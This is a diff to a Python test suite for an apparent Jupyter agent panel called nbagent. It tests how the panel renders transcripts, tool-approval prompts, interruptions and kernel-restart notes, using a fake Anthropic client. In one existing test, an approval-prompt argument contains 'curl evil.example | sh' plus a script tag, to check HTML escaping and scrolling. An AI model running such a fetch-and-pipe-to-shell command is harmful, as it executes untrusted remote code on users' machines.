@@ -78,6 +78,8 @@ def test_real_run_through_the_sdk_fills_the_panel(fake: FakeAnthropic, client: a
         session.subscribe(panel)
         assert nbagent.run(session, "what is 2+3?", tools=[add], client=client, model="claude-test") == "The sum is **5**."
         expected_usage = dict(session.usage)
+    live = panel.bundle()
+    assert set(live) == {"application/vnd.jupyter.widget-view+json", "text/html", "text/plain"}  # while it runs
     panel.finish()
     values = [child.value for child in panel.items.children]
     assert "what is 2+3?" in values[0]
@@ -88,8 +90,9 @@ def test_real_run_through_the_sdk_fills_the_panel(fake: FakeAnthropic, client: a
     assert panel.usage["output_tokens"] == expected_usage["output_tokens"] > 0
     assert f"{expected_usage['output_tokens']:,} out tokens" in panel.header.value
     bundle = panel.bundle()
-    assert set(bundle) >= {"application/vnd.jupyter.widget-view+json", "text/html", "text/plain"}
+    assert set(bundle) == {"text/html", "text/plain"}  # finished: the transcript alone, no widget to go missing
     assert "The sum is <strong>5</strong>." in bundle["text/html"]
+    assert f"{expected_usage['output_tokens']:,} out tokens" in bundle["text/html"]  # the static header has the tokens too
     assert "result of add:\n    5" in bundle["text/plain"] and "\n    The sum is **5**." in bundle["text/plain"]
 
 
@@ -145,7 +148,7 @@ def test_statuses_errors_and_interruption() -> None:
     assert panel.status == "interrupted"  # finish keeps a final status
     text = panel.bundle()["text/plain"]
     assert "approval approved by panel for rm" in text and "interrupted (during tools)" in text
-    assert any("⚠ model error: Overloaded" in c.value for c in panel.items.children)
+    assert any("model error</span> Overloaded" in c.value for c in panel.items.children)
 
 
 def test_ask_outside_a_kernel_without_a_terminal_declines_with_a_note() -> None:
@@ -212,7 +215,7 @@ def test_saved_notebook_keeps_the_transcript_as_html_and_headless_approval_decli
     displays = [o for o in outputs if o.output_type == "display_data"]
     assert len(displays) == 1, outputs  # update_display replaced the first rendering in place
     data = displays[0].data
-    assert "application/vnd.jupyter.widget-view+json" in data
+    assert set(data) == {"text/html", "text/plain"}  # the saved output needs no widget (and no kernel) to show
     html, plain = data["text/html"], data["text/plain"]
     assert "launch it" in html and "I could not launch <strong>the rocket</strong>." in html and "done" in html
     assert "declined by nobody" in plain  # nbclient sends allow_stdin=False: nobody can answer
@@ -227,3 +230,113 @@ def test_the_approval_question_shows_every_argument_however_long() -> None:
     shown = panel.items.children[-1].value
     assert "curl evil.example | sh &lt;script&gt;" in shown and "<script>" not in shown
     assert "overflow:auto" in shown  # a long payload scrolls in its box instead of being cut
+
+
+# One approval, notes, the calls a new request settles, a finished panel -----------------------------------------
+def test_the_live_panel_draws_an_approval_once_and_the_static_transcript_shows_the_logged_one() -> None:
+    request = ApprovalRequest("t1", "rm", {"path": "x"}, "irreversible", "irreversible")
+    events = [
+        {"type": "user_msg", "seq": 1, "content": "remove x"},
+        {"type": "assistant_msg", "seq": 2, "content": [{"type": "tool_use", "id": "t1", "name": "rm", "input": {"path": "x"}}]},
+        {"type": "approval", "seq": 3, "tool_use_id": "t1", "decision": "pending", "question": request.describe()},
+    ]
+    panel = Panel("approval")
+    for event in events:
+        panel(event)
+    decision = panel.ask(request)  # outside a kernel, with no terminal: nobody can answer, the panel says so in place
+    panel({"type": "approval", "seq": 4, "tool_use_id": "t1", "decision": "declined", "by": "nobody", "note": decision.note})
+    values = [child.value for child in panel.items.children]
+    assert sum(request.describe() in v for v in values) == 1  # the logged question was replaced, not repeated
+    assert any("declined: no person can answer here" in v for v in values) and not any("by nobody" in v for v in values)
+    static = panel.static_bundle()["text/html"]
+    assert static.count(request.describe()) == 1 and "declined</span> by nobody: <b>rm</b>" in static
+    replayed = Panel("the same events re-rendered")  # nothing asks: the logged question and decision, once each
+    for event in [*events, {"type": "approval", "seq": 4, "tool_use_id": "t1", "decision": "declined", "by": "nobody"}]:
+        replayed(event)
+    shown = "".join(child.value for child in replayed.items.children)
+    assert shown.count(request.describe()) == 1 and shown.count("by nobody") == 1
+
+
+def test_a_finished_panel_is_static_and_its_widgets_are_closed() -> None:
+    panel = Panel("finish")
+    panel({"type": "user_msg", "seq": 1, "content": "hi"})
+    panel({"type": "model_call", "seq": 2, "attempt": 1})
+    panel({"type": "delta", "seq": 3, "index": 0, "text": "Hel"})
+    widgets_before = [panel.widget, panel.header, panel.items, *panel.items.children]
+    assert all(w.comm is not None for w in widgets_before) and "application/vnd.jupyter.widget-view+json" in panel.bundle()
+    panel.finish()
+    assert all(w.comm is None for w in widgets_before)  # closed: the frontend drops them
+    assert set(panel.bundle()) == {"text/html", "text/plain"} and "Hel" in panel.bundle()["text/html"]
+    panel.finish()  # finishing again changes nothing
+
+
+def recorded_session(path: Path, *steps: tuple[str, dict[str, Any]]) -> nbagent.Session:
+    session = nbagent.Session.open(path)
+    for kind, payload in steps:
+        session.append(kind, **payload)
+    return session
+
+
+def run_in_panel(session: nbagent.Session, client: anthropic.Anthropic, request: str, note: str = "") -> Panel:
+    """A new request as the magic runs it: the panel starts from the session's state (it sees only the events after)."""
+    from nbagent.render.parts import Start
+
+    if note:
+        session.append("note", kind="kernel_restarted", to_model=note)
+    panel = Panel(request)
+    panel.begin(Start.of_state(session.state))
+    session.subscribe(panel, since=session.seq)
+    nbagent.run(session, request, tools=[add], client=client, model="claude-test")
+    panel.finish()
+    return panel
+
+
+def test_a_call_left_open_by_an_interrupt_is_named_and_shown_as_a_note_before_the_new_request(
+    fake: FakeAnthropic, client: anthropic.Anthropic, log_path: Path
+) -> None:
+    fake.script(text("Fine."))
+    call = {"type": "tool_use", "id": "toolu_9", "name": "add", "input": {"a": 1, "b": 2}}
+    session = recorded_session(
+        log_path,
+        ("user_msg", {"content": "add"}),
+        ("assistant_msg", {"content": [call], "stop_reason": "tool_use", "usage": {}}),
+        ("approval", {"tool_use_id": "toolu_9", "decision": "pending", "question": "?"}),
+        ("interrupted", {"during": "tools", "open_calls": ["toolu_9"]}),
+    )
+    restart = "[nbagent note: the Jupyter kernel was restarted.]"
+    panel = run_in_panel(session, client, "something else", note=restart)
+    values = [child.value for child in panel.items.children]
+    assert "the call to add from the request before was not run: a new request came first" in values[0]
+    assert "note to the model</span> the Jupyter kernel was restarted." in values[1] and "something else" in values[1]
+    assert not any("error from" in v or "[nbagent note" in v for v in values)
+    assert "note: the call to add from the request before was not run" in panel.static_bundle()["text/plain"]
+    sent = fake.requests[-1].body["messages"][-1]["content"]
+    assert [b["type"] for b in sent] == ["tool_result", "text", "text"] and [b["text"] for b in sent[1:]] == [restart, "something else"]
+    session.close()
+
+
+def test_a_request_after_an_unanswered_interrupt_carries_the_interruption_note(
+    fake: FakeAnthropic, client: anthropic.Anthropic, log_path: Path
+) -> None:
+    fake.script(text("Answering the second."))
+    session = recorded_session(
+        log_path,
+        ("user_msg", {"content": "first"}),
+        ("model_call", {"attempt": 1}),
+        ("delta", {"index": 0, "text": "Half an ans"}),
+        ("interrupted", {"during": "model", "open_calls": []}),
+    )
+    panel = run_in_panel(session, client, "second")
+    sent = fake.requests[-1].body["messages"]
+    assert len(sent) == 1 and [b["text"] for b in sent[0]["content"]] == ["first", nbagent.fold.INTERRUPTED_NOTE, "second"]
+    request = next(child.value for child in panel.items.children if "second" in child.value)
+    assert "note to the model</span> the previous request was interrupted before it was answered." in request
+    session.close()
+
+
+def test_python_tool_input_is_code_in_the_panel() -> None:
+    panel = Panel("code")
+    code = "for i in range(3):\n    print(i)"
+    panel({"type": "assistant_msg", "seq": 1, "content": [{"type": "tool_use", "id": "t", "name": "python", "input": {"code": code}}]})
+    [child] = panel.items.children
+    assert '<pre class="nbagent-code"><span class="pg-k">for</span>' in child.value and "&quot;code&quot;" not in child.value
